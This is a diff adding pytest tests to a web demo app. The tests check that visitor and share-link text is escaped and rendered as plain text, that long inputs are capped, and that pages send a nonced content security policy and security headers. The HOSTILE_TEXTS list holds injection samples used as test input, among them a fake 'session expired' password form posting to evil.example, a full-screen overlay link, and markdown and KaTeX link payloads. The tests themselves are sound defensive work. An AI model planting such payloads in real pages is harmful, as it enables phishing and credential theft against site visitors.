@@ -546,3 +546,78 @@ def test_fair_order_serves_one_job_per_client_per_round():
     assert admission(waiting, "session:w", "9.9.9.9", limits) == ("displace", flood[2])  # full: the heaviest gives way
     verdict, _ = admission(flood[:1], "api@1.2.3.4", "1.2.3.4", limits)
     assert verdict.startswith("refuse") and "share 1 waiting" in verdict
+
+
+# --- text from a visitor or a link is shown as text (issue 37: a share link drew a sign-in form) ----
+
+HOSTILE_TEXTS = [
+    '<form action="http://evil.example/s"><p>Your session expired. Sign in</p><input type="password"></form>',
+    '<a href="http://evil.example" style="position:fixed;inset:0;background:red">continue</a>',
+    "[text](http://evil.example) ![i](http://evil.example/i.png) <http://evil.example>",
+    "http://evil.example www.evil.example mail a@evil.example",
+    "**bold** _em_ `code`\n# heading\n- item\n| a | b |\n|---|---|\n    indented",
+    "$$\\href{http://evil.example}{click}$$ &lt;b&gt; &amp; &#60;form&#62; \\*",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE_TEXTS)
+def test_visitor_text_renders_as_its_own_characters_in_markdown(text):
+    """A real CommonMark renderer (raw HTML on, as gradio's) turns the escaped text into one
+    paragraph of plain text, the same characters the visitor sent (line breaks as spaces)."""
+    import html as html_lib
+
+    from markdown_it import MarkdownIt
+
+    from app.shown_text import as_markdown
+
+    source = as_markdown(text, 1000)
+    rendered = MarkdownIt("commonmark", {"html": True}).render(source)
+    assert rendered.startswith("<p>") and rendered.count("<") == 2, rendered  # <p> and </p>, nothing else
+    shown = html_lib.unescape(rendered.removeprefix("<p>").strip().removesuffix("</p>"))
+    assert shown == "".join(ch if ch.isprintable() else " " for ch in text)
+    for trigger in ("://", "www.", "@", "$$", "[", "<"):  # what GFM's autolinks, KaTeX and markup start from
+        assert trigger not in source
+
+
+def test_visitor_text_is_capped_and_html_escaped():
+    from app.shown_text import as_html, as_markdown, capped
+
+    assert capped("x" * 500, 10) == "x" * 9 + "…" and capped("short", 10) == "short"
+    assert as_html('<b title="x">&</b>', 100) == "&lt;b title=&quot;x&quot;&gt;&amp;&lt;/b&gt;"
+    assert len(as_html("<" * 1000, 50)) <= 4 * 49 + 1
+    assert "<" not in as_markdown("<" * 1000, 50) and as_markdown("<" * 1000, 50).endswith("…")
+
+
+def test_a_link_with_many_long_names_gets_a_short_message():
+    from app.share import settings_from_query
+
+    query = {f"<form><input name='{i}'>" + "x" * 300: "1" for i in range(50)} | {"decay": "<b>" + "y" * 5000}
+    values, message = settings_from_query(query, LIMITS, {"decay": "linear", "target_speedup": 2.0})
+    assert values == {} and len(message) <= 600 and "and 45 more" in message and "decay must be one of" in message
+
+
+@pytest.mark.server
+def test_pages_carry_a_nonced_csp_and_every_response_the_security_headers(slow_server):
+    import httpx
+
+    demo, _ = slow_server
+    base = demo.local_url.rstrip("/")
+    pages = [httpx.get(base + "/", timeout=30) for _ in range(2)]
+    nonces = []
+    for page in pages:
+        policy = page.headers["content-security-policy"]
+        nonce = re.search(r"'nonce-([A-Za-z0-9_-]{20,})'", policy).group(1)
+        nonces.append(nonce)
+        for directive in ("default-src 'self'", "form-action 'self'", "base-uri 'self'", "object-src 'none'",
+                          "connect-src 'self'"):
+            assert directive in policy, policy
+        assert "script-src 'self' 'nonce-" in policy and "'unsafe-inline'" not in policy.split("style-src")[0]
+        scripts = re.findall(r"<script\b[^>]*>", page.text)
+        assert scripts and all(f'nonce="{nonce}"' in tag for tag in scripts), scripts
+    assert nonces[0] != nonces[1]  # a fresh nonce per response
+    refused = httpx.post(base + "/gradio_api/queue/join", content=b"{not json", timeout=30)
+    info = httpx.get(base + "/gradio_api/info", timeout=30)
+    for response in (*pages, refused, info):
+        assert response.headers["x-content-type-options"] == "nosniff"
+        assert response.headers["referrer-policy"] == "no-referrer"
+    assert refused.status_code == 400 and "content-security-policy" not in info.headers
